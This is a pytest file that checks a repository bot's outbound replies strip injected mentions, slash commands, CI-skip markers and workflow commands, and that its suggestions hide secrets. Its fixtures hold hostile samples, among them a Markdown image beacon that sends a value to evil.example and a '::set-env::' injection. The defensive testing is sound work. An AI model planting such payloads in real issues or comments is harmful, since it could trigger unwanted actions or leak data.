"""What a hostile model, person or file brings into the bot's texts: the cases A6, F2, F3, F4 and F8."""

import re
from collections.abc import Callable
from dataclasses import replace

import pytest
from tests.unit.conversation import served_texts
from tests.unit.conversation import told_run as told

from pointsman.config.problem import ConfigProblem
from pointsman.conversation import replies
from pointsman.conversation.answers import answer_in
from pointsman.conversation.commands import intent_in
from pointsman.conversation.outbound import inline_code, outbound, outbound_code, outbound_line
from pointsman.domain.intents import Misread
from pointsman.domain.note_problem import NoteProblem
from pointsman.domain.notes import NoteReport
from pointsman.domain.outcome import Earlier
from pointsman.domain.run import Considered, Route, RunSpec

LOUD = "@org/team @dependabot merge Fixes #1 o/r#2 GH-3 <img src=x> ![x](https://evil.example/?q=S)\n/merge\n"
LOUD += "> /approve\n::set-env::x"
LINE = "a\n# b\n/merge @org #1 <b> | `x` " + "y" * 1_000


def _loud_spec() -> RunSpec:
    spec = served_texts.served_spec()
    order = spec.order
    routes = {
        phase: replace(route, reasons=(Considered(LINE, False, "perimeter", LOUD),))
        for phase, route in order.routes.items()
        if isinstance(route, Route)
    }
    issue = replace(spec.issue, title=LINE, body=LOUD)
    return replace(spec, issue=issue, orders={spec.task: replace(order, routes=routes)})


FINDING = replace(told.FINDING, path=LINE, message=LOUD, quote=LOUD, suggestion=LOUD)
REVIEW = replace(told.REVIEW, summary=LOUD, findings=(FINDING,))
PLAN = replace(told.PLAN, goal=LOUD, criteria=(LOUD,), steps=(LINE,), change=(LINE,), questions=(LOUD,))
EVIDENCE = replace(told.EVIDENCE, why=LOUD, missing=(LINE,))
EARLIER = Earlier(plan=PLAN, evidence=EVIDENCE, reviews=(REVIEW,))
CALLS = tuple(replace(call, model=LINE, served=LOUD) for call in told.calls())
VIEW = replace(told.RUNNING, model=LINE, message=LOUD)
PROBLEMS = (ConfigProblem(LINE, 1, 1, LOUD, LOUD),) * 30
GROUND = replies.Ground(_loud_spec(), CALLS)


def _check() -> str:
    check = replies.check_order(told.RUN_ID, "ready", REVIEW, EVIDENCE, ground=GROUND)
    return f"{check.title}\n\n{check.summary}\n\n{check.text}"


def _post() -> str:
    post = replies.review_post(told.RUN_ID, REVIEW, EVIDENCE)
    return "\n\n".join((post.body, *(remark.text for remark in post.remarks)))


SAID: dict[str, Callable[[], str]] = {
    "action-required": lambda: "\n\n".join(replies.action_required(PROBLEMS)),
    "answered": lambda: replies.answered(LOUD, LINE, 1.0),
    "approved": lambda: replies.approved("f" * 64, LOUD),
    "audit": lambda: replies.audit_page(NoteReport((LINE,), (LINE,), (LOUD,), (NoteProblem(LINE, "x", LOUD),), "")),
    "check": _check,
    "config": lambda: replies.config_page(None, PROBLEMS),
    "cost": lambda: replies.cost_table((VIEW,), CALLS),
    "fix": lambda: "\n\n".join(replies.fix_issue((FINDING,))),
    "for-people": lambda: replies.for_people((LINE, LOUD) * 9),
    "handover": lambda: replies.handover_text("copilot", _loud_spec().issue, PLAN, EARLIER),
    "misread": lambda: replies.misread(Misread(LOUD, LOUD), "pointsman[bot]"),
    "not-fixed": lambda: replies.not_fixed(LOUD),
    "onboarding": lambda: replies.onboarding_page(LINE, LOUD, ""),
    "paused": lambda: replies.paused(LOUD) + replies.resumed(LOUD),
    "post": _post,
    "refusal": lambda: replies.refusal("rule", LOUD, LOUD),
    "route": lambda: replies.route_table(_loud_spec()),
    "status": lambda: replies.status_text(VIEW, CALLS, forge="github"),
    "statuses": lambda: replies.status_list((VIEW,)),
    "stranger": lambda: replies.stranger(LOUD, "read"),
    "wrong-hash": lambda: replies.wrong_hash(LOUD, "f" * 64),
}
_FENCE = re.compile(r"^(?P<mark>`{3,})[^`\n]*\n.*?^(?P=mark)[ \t]*$", re.MULTILINE | re.DOTALL)
_SPAN = re.compile(r"(?<![\\`])(`+)(?!`)[^\n]*?(?<!`)\1(?!`)")


def _acting(text: str) -> str:
    """What of a Markdown text a forge acts on: everything outside of code."""
    return _SPAN.sub("code", _FENCE.sub("code", text))


@pytest.mark.parametrize("name", sorted(SAID))
def test_f2_f3_no_text_mentions_closes_or_commands_for_others(name: str) -> None:
    acting = _acting(SAID[name]())
    assert "@" not in acting
    assert not re.search(r"#\d|GH-\d", acting)
    assert not re.search(r"^[ \t>]*(?:[-*+][ \t]+)*/[a-z]", acting, re.MULTILINE)
    assert not re.search(r"(?<!\\)!\[|<(?!/?details>|/?summary>)[a-z!/]", acting)
    assert not re.search(r"^[ \t]*::set-env::", SAID[name](), re.MULTILINE)


@pytest.mark.parametrize("name", sorted(SAID))
def test_f4_what_others_bring_into_a_line_stays_one_short_line(name: str) -> None:
    assert all(len(line) <= 6_000 for line in SAID[name]().split("\n"))
    assert "\n# b" not in _acting(SAID[name]())


@pytest.mark.parametrize(
    "words", ["skip ci", "CI Skip", "no ci", "skip actions", "actions skip", "skip-ci", "skip\nci"]
)
def test_f3_nothing_that_becomes_the_message_of_a_squash_keeps_ci_from_running(words: str) -> None:
    """F3: people squash with title and page, and what a stranger wrote in an issue would then skip the CI of main."""
    text = f"Round up [{words}] ***NO_CI*** and **bold**"
    spec = _loud_spec()
    title = replies.change_title(replace(spec, issue=replace(spec.issue, title=text)))
    for said in (title, outbound(text), outbound_line(text), outbound_code(text), inline_code(text)):
        flat = " ".join(said.split()).lower()
        assert f"[{words.lower()}]".replace("\n", " ") not in flat and "***no_ci***" not in flat
        assert "**bold**" in flat


def test_f4_titles_are_one_short_line() -> None:
    titles = (
        replies.action_required(PROBLEMS)[0],
        replies.fix_issue((FINDING,))[0],
        replies.change_title(_loud_spec()),
        replies.check_order(told.RUN_ID, "ready", REVIEW, EVIDENCE).title,
        replies.onboarding_title(),
    )
    assert all("\n" not in title and len(title) <= 200 for title in titles)


def test_f8_no_text_is_longer_than_a_forge_takes() -> None:
    long = "word " * 4_000
    many = tuple(replace(FINDING, id=f"f-{n}", message=long) for n in range(10))
    review = replace(REVIEW, findings=many, summary=long)
    plan = replace(PLAN, goal=long, steps=("step " * 60,) * 400)
    earlier = replace(EARLIER, plan=plan, reviews=(review,))
    spec = replace(_loud_spec(), issue=replace(_loud_spec().issue, body=long))
    facts = replies.PageFacts(told.RUN_ID, "Fixes #12", spec, earlier, CALLS * 500)
    check = replies.check_order(told.RUN_ID, "ready", review, EVIDENCE, ground=GROUND)
    report = NoteReport((LINE,) * 200, (LINE,) * 200, (LINE,) * 200, (NoteProblem(LINE, "x", long),) * 200, "")
    said = (
        replies.change_page(facts),
        replies.status_text(replace(VIEW, message=long), CALLS * 500),
        check.summary,
        check.text,
        replies.fix_issue(many)[1],
        replies.handover_text("duo", spec.issue, plan, earlier),
        replies.audit_page(report),
        replies.config_page(None, PROBLEMS * 100),
        replies.action_required(PROBLEMS * 100)[1],
        replies.cost_table((VIEW,) * 500, CALLS),
        replies.status_list((VIEW,) * 500),
        replies.review_text(review, EVIDENCE),
        replies.review_post(told.RUN_ID, review, EVIDENCE).body,
        replies.answered(long, "planner"),
        replies.onboarding_page("acme/shop", long, long),
        replies.plan_for_approval(plan, "its risk is high"),
    )
    assert [len(text) for text in said if len(text) > 60_000] == []
    assert "was cut" in said[0] and said[0].startswith("Fixes #12") and "What to do next" in said[0]


def test_a_suggestion_that_hides_something_is_shown_and_not_offered() -> None:
    clean = replace(told.FINDING, suggestion="    return place\n")
    for hidden in ("ghp_" + "a" * 36, "x = 1 \u202e# y", "<!-- pointsman:finding f-1 -->"):
        post = replies.review_post("r", replace(REVIEW, findings=(replace(clean, suggestion=hidden),)), None)
        assert post.remarks[0].suggestion == "" and "Suggestion:" in post.remarks[0].text
        assert hidden not in post.remarks[0].text
    offered = replies.review_post("r", replace(REVIEW, findings=(clean,)), None).remarks[0]
    assert offered.suggestion == clean.suggestion and "return place" not in offered.text


@pytest.mark.parametrize("name", sorted(SAID))
def test_a6_nothing_that_the_bot_says_is_a_command_when_it_is_said_again(name: str) -> None:
    for text in (SAID[name](), f"> {SAID[name]()}", f"```\n{SAID[name]()}\n```"):
        assert intent_in(text, "pointsman") is None
        assert answer_in(text, "pointsman") in (None, answer_in(SAID[name](), "pointsman"))
